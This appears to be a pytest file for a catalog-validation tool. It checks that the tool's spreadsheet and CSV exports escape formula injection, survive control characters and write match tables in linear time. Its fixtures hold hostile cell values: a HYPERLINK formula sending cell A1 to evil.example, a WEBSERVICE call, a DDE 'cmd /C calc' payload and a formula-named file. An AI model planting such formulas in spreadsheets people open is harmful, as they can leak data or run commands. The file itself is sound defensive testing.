"""Issue 7.7 and 7.10: no spreadsheet or CSV sxcheck writes holds a formula from the data, control
characters never crash a writer, and the match-table writers scale linearly.

The hostile content opens every spreadsheet and CSV the project writes: the annotated workbook
(validate --format xlsx), the conform report workbook, and the match tables (--matches .xlsx/.csv).
"""
import csv
import io
import time
import zipfile

import pytest

from conftest import run
from validators.exporters.safety import FORMULA_PREFIXES, cell_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1", "=1+1\x01\x1b[31m", "正常事项名称"]
BASE_HOSTILE = ['=WEBSERVICE("http://evil.example")', "@HYPERLINK(\"x\")"]


@pytest.fixture
def hostile(tmp_path):
    """A local catalog and a base catalog whose names, codes and bodies carry formulas."""
    local = tmp_path / "=cmd()本地.csv"              # the file name is a vector too
    rows = ["事项名称,基本编码,实施编码,事项类型,行使层级,实施主体,实施主体编码"]
    for i, name in enumerate(HOSTILE):
        name_cell = '"' + name.replace('"', '""') + '"'
        rows.append(f"{name_cell},=0001040020{i:02d},11450721MB1558081140001040020{i:02d},01,4,"
                    f'"=1+{i}",11450721MB15580811')
    local.write_text("\n".join(rows) + "\n", encoding="utf-8")
    base = tmp_path / "base.csv"
    base_rows = ["基本编码,事项名称,事项类型,行使层级"]
    for i, name in enumerate(HOSTILE + BASE_HOSTILE):
        base_rows.append(f'0001040020{i:02d},"{name.replace(chr(34), chr(34) * 2)}",01,"2,3,4"')
    base.write_text("\n".join(base_rows) + "\n", encoding="utf-8")
    return local, base


def formula_free_xlsx(path) -> list[str]:
    """Problems found in a workbook: formula cells, text starting with a formula prefix."""
    from openpyxl import load_workbook

    problems = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and (b"<f>" in z.read(name) or b"<f " in z.read(name)):
                problems.append(f"{name}: <f> element")
    wb = load_workbook(path)
    for ws in wb.worksheets:
        if ws.title.startswith(FORMULA_PREFIXES):
            problems.append(f"sheet title {ws.title!r}")
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    problems.append(f"{ws.title}!{c.coordinate} formula {c.value!r}")
                elif isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES):
                    problems.append(f"{ws.title}!{c.coordinate} unescaped {c.value!r}")
    return problems


def formula_free_csv(path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    problems = []
    for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                problems.append(f"row {n}: {cell!r}")
    return problems


def test_match_table_csv_has_no_formula(hostile, tmp_path):
    local, base = hostile
    out = tmp_path / "m.csv"
    r = run("conform", local, "--base", base, "--matches", out, "-q", "--fail-on", "never")
    assert r.exit_code == 0, r.output
    assert formula_free_csv(out) == []
    text = out.read_text(encoding="utf-8-sig")
    assert text.count("'=HYPERLINK(") >= 2          # the local name and the matched base name
    assert "'-2+3" in text and "\x01" not in text and "\\x01" in text


def test_match_table_xlsx_has_no_formula_and_holds_control_characters(hostile, tmp_path):
    local, base = hostile
    out = tmp_path / "m.xlsx"
    r = run("conform", local, "--base", base, "--matches", out, "-q", "--fail-on", "never")
    assert r.exit_code == 0, r.output
    assert formula_free_xlsx(out) == []
    from openpyxl import load_workbook

    values = {c.value for row in load_workbook(out).active.iter_rows() for c in row}
    assert "'=1+1\\x01\\x1b[31m" in values        # escaped visibly, not dropped, no crash


@pytest.mark.parametrize("command", ["validate", "conform"])
def test_report_workbooks_have_no_formula(hostile, tmp_path, command):
    local, base = hostile
    out = tmp_path / f"{command}.xlsx"
    args = [command, local, "--format", "xlsx", "-o", out, "-q", "--fail-on", "never"]
    if command == "conform":
        args += ["--base", base]
    r = run(*args)
    assert r.exit_code == 0, r.output
    assert formula_free_xlsx(out) == []


def test_cell_text_neutralises_every_prefix():
    for value in HOSTILE[:-1] + BASE_HOSTILE:
        out = cell_text(value)
        assert out.startswith("'") and not any(ch in out for ch in "\x01\x1b")
    assert cell_text("正常") == "正常" and cell_text(None) == "" and cell_text("-5") == "'-5"
    assert len(cell_text("长" * 40_000)) == 32_767 and cell_text("长" * 40_000).endswith("…")
    assert len(cell_text("长" * 40_000, limit=None)) == 40_000


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_match_table_writers_are_linear(tmp_path, ext):
    import pandas as pd

    from validators.exporters.tables import write_frame

    def frame(n):
        return pd.DataFrame({"local_name": [f"=事项{i}" if i % 7 == 0 else f"事项{i}" for i in range(n)],
                             "local_row": range(2, n + 2), "score": [99.5] * n,
                             "band": ["matched"] * n, "catalog_ok": [True] * n})

    timings = []
    for n in (20_000, 40_000):
        f = frame(n)
        best = float("inf")
        for attempt in range(2):   # the best of two: a shared machine's load comes and goes
            started = time.perf_counter()
            write_frame(f, str(tmp_path / f"m{n}-{attempt}.{ext}"))
            best = min(best, time.perf_counter() - started)
        timings.append(best)
    # twice the rows: about twice the time (a quadratic writer would take four times)
    assert timings[1] < 3.2 * timings[0] + 0.2, timings


def test_fix_change_log_has_no_formula(tmp_path):
    src = tmp_path / "local.csv"
    src.write_text("事项名称,实施编码,事项类型,实施主体编码,法定办结时限\n"
                   '"=HYPERLINK(""http://evil.example"",""x"")",11450721MB155808114000104002000,01,'
                   "11450721mb15580811,=二十\n", encoding="utf-8")
    log = tmp_path / "changes.csv"
    r = run("fix", src, "-o", tmp_path / "fixed.csv", "--log", log)
    assert r.exit_code == 0, r.output
    assert "11450721MB15580811" in log.read_text(encoding="utf-8-sig")
    assert formula_free_csv(log) == []
